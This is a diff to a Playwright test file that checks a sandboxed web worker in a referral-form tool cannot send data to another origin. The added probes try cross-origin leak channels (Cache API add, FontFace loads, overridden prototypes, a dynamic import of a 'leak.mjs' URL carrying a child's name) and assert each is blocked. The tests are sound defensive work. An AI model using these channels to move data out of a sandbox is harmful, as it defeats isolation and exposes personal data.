@@ -106,6 +106,17 @@ def test_the_worker_cannot_reach_another_origin(open_page: Page, other_origin: s
           try { new WebSocket(url.replace("http", "ws")); out.ws = "sent"; }
           catch (e) { out.ws = "blocked"; }
           try { new EventSource(url); out.es = "sent"; } catch (e) { out.es = "blocked"; }
+          const cache = await caches.open("probe");
+          try { await cache.add(url); out.cacheAdd = "sent"; }
+          catch (e) { out.cacheAdd = "blocked"; }
+          try { await cache.addAll([url]); out.cacheAddAll = "sent"; }
+          catch (e) { out.cacheAddAll = "blocked"; }
+          try { Cache.prototype.add = () => Promise.resolve(); } catch (e) {}
+          try { await cache.add(new Request(url)); out.cacheRestored = "sent"; }
+          catch (e) { out.cacheRestored = "blocked"; }
+          await caches.delete("probe");
+          try { await new FontFace("x", `url(${url}&font)`).load(); out.font = "sent"; }
+          catch (e) { out.font = "blocked"; }
           try { self.fetch = () => 0; } catch (e) {}
           try { await self.fetch(url); out.restored = "sent"; }
           catch (e) { out.restored = "blocked"; }
@@ -117,13 +128,38 @@ def test_the_worker_cannot_reach_another_origin(open_page: Page, other_origin: s
     )
     assert outcomes == {"fetch": "blocked", "request": "blocked", "xhr": "blocked",
                         "ws": "blocked", "es": "blocked", "restored": "blocked",
-                        "own": True}  # fmt: skip
+                        "cacheAdd": "blocked", "cacheAddAll": "blocked",
+                        "cacheRestored": "blocked", "font": "blocked", "own": True}  # fmt: skip
     page.wait_for_timeout(500)
     assert Recorder.seen == []
     # The rule core still answers after all that.
     page.locator("[name='referrer.name']").fill("Zoë")
     page.get_by_role("button", name="Check your answers").click()
     page.locator("[data-error-summary]").wait_for()
+
+
+def test_a_dynamic_import_is_stopped_by_the_header(browser: Browser, server_url: str,
+                                                  other_origin: str) -> None:
+    """What the worker cannot refuse itself (a dynamic import()), the host's policy header
+    does: the reason the Publishing page asks for a host that sends the headers."""
+    ctx = browser.new_context(base_url=server_url, service_workers="block")
+    try:
+        page = ctx.new_page()
+        page.goto("tools/referral-form/")
+        wait_ready(page)
+        (worker,) = [w for w in page.workers if "/assets/csprcore/worker.js" in w.url]
+        Recorder.seen.clear()
+        outcome = worker.evaluate(
+            """async (url) => {
+              try { await import(url); return "sent"; } catch (e) { return "blocked"; }
+            }""",
+            f"{other_origin}/leak.mjs?child=Zo%C3%AB",
+        )
+        assert outcome == "blocked"
+        page.wait_for_timeout(300)
+        assert Recorder.seen == []
+    finally:
+        ctx.close()
 
 
 def headers(url: str, **sent: str) -> tuple[Message, bytes]:
